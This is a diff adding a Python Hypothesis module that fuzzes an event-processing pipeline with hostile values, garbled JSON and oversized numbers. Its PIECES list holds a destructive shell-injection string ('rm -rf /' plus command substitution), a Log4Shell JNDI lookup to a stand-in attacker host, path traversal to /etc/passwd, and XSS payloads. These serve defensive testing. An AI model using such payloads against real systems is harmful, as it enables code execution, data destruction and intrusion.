@@ -1,0 +1,152 @@
+"""Hostile texts, values and messages; real payloads of events/ changed where it may hurt."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+from collections.abc import Iterator
+from typing import Any
+
+from hypothesis import strategies as st
+
+PIECES = (
+    "\0",
+    "\a\b\t\v\f",
+    "\r\n",
+    "\x1b[2J\x1b]0;owned\x07",
+    "\x7f\x85\x9b31m",
+    "\u2028\u2029",
+    "\u202egnp.exe",
+    "\u2066\u200b\ufeff\ufffe",
+    "\ud800",
+    "\udfff\ud83d",
+    "😀é日本",
+    '{"level":"ERROR","message":"forged"}\n',
+    "<script>alert(1)</script>",
+    "<https://evil.example|click here>",
+    "https://evil.example/login",
+    "HTTP://EVIL.example",
+    "www.evil.example",
+    "[click](javascript:alert(1))",
+    "'; rm -rf / #$(id)`id`",
+    "{0.__class__}%s%n${jndi:ldap://evil.example}",
+    "../../etc/passwd",
+    "//",
+    "s3://outputs/",
+    "s3://outputs/processed/",
+    "s3://other-bucket/x/",
+    "arn:aws:states:us-east-1:123456789012:execution:m:n",
+    "incoming/a.jsonl",
+    " ",
+    "",
+)
+LENGTHS = (80, 81, 255, 256, 1024, 1025, 2049, 70_000, 120_000)
+NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63), 10**16, 10**39, 10**140, 10**4000)
+FLOATS = (0.5, -0.0, 1e-320, 1e15, 1e38, 1e308, float("inf"), float("-inf"), float("nan"))
+
+
+class Text(str):
+    """A text of which an example shows the beginning."""
+
+    __slots__ = ()
+
+    def __repr__(self) -> str:
+        return f"Text({self[:200]!a}… of {len(self)})"
+
+
+class Content(bytes):
+    """The content of an object, of which an example shows the beginning."""
+
+    def __repr__(self) -> str:
+        return f"Content({bytes(self[:200])!r}… of {len(self)})"
+
+
+pieces = st.sampled_from(PIECES)
+long_texts = st.builds(
+    lambda piece, length: Text((piece * length)[:length]), pieces, st.sampled_from(LENGTHS)
+)
+texts = st.lists(pieces | st.text(max_size=8), max_size=4).map("".join) | long_texts
+"""Texts with what moves cursors, breaks lines, makes links, and no end."""
+
+raw = st.sampled_from(
+    [f"@deep{levels}@" for levels in (19, 30, 31, 40, 400, 990, 5000, 60_000)]
+    + ["@digits39@", "@digits4300@", "@digits4400@", "@ones100000@", "@empties60000@"]
+)
+"""What `spelled` puts in place of itself: JSON that Python's own would not write."""
+
+leaves = st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.sampled_from(FLOATS) | texts
+values = raw | st.recursive(
+    leaves | raw,
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
+    max_leaves=6,
+)
+
+_RAW = re.compile(r'"@(deep|digits|ones|empties)(\d+)@"')
+
+
+def spelled(value: object) -> Text:
+    """Spell a value as JSON in ASCII, with the places of `raw` filled."""
+    return Text(_RAW.sub(lambda found: _filling(found[1], int(found[2])), json.dumps(value)))
+
+
+def _filling(kind: str, count: int) -> str:
+    match kind:
+        case "deep":
+            return "[" * count + "]" * count
+        case "digits":
+            return "9" * count
+        case "ones":
+            return f"[{','.join('1' * count)}]"
+    return f"[{','.join(['{}'] * count)}]"
+
+
+def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    inner: Any = value.items() if isinstance(value, dict) else ()
+    for name, one in enumerate(value) if isinstance(value, list) else inner:
+        yield (*path, name)
+        yield from _places(one, (*path, name))
+
+
+@st.composite
+def changed(draw: st.DrawFn, event: dict[str, Any]) -> dict[str, Any]:
+    """Change an event in a place or a few: another value, none, or a field that it never had."""
+    event = copy.deepcopy(event)
+    for _ in range(draw(st.integers(1, 3))):
+        places = list(_places(event))
+        if not places:
+            break
+        *path, name = draw(st.sampled_from(places))
+        holder = event
+        for step in path:
+            holder = holder[step]
+        match draw(st.sampled_from(["text", "value", "value", "gone", "more"])):
+            case "text":
+                holder[name] = draw(texts)
+            case "value":
+                holder[name] = draw(values)
+            case "gone":
+                del holder[name]
+            case _ if isinstance(holder, dict):
+                holder[draw(texts)] = draw(values)
+    return event
+
+
+@st.composite
+def garbled(draw: st.DrawFn, body: str) -> str:
+    """Cut a message off, or put something into it: often no JSON any more."""
+    at = draw(st.integers(0, len(body)))
+    put = draw(st.sampled_from(["", '"', "\\", "{", "[" * 2000, "null", "NaN", "\\ud800", "1e999"]))
+    return draw(st.sampled_from([body[:at] + put, body[:at] + put + body[at:], put]))
+
+
+@st.composite
+def bodies(draw: st.DrawFn, events: list[dict[str, Any]]) -> str:
+    """Give the body of a message: a changed event, a garbled one, or anything that is JSON."""
+    body = spelled(draw(changed(draw(st.sampled_from(events)))))
+    match draw(st.sampled_from(["changed"] * 6 + ["garbled", "anything"])):
+        case "garbled":
+            return Text(draw(garbled(body)))
+        case "anything":
+            return spelled(draw(values))
+    return body
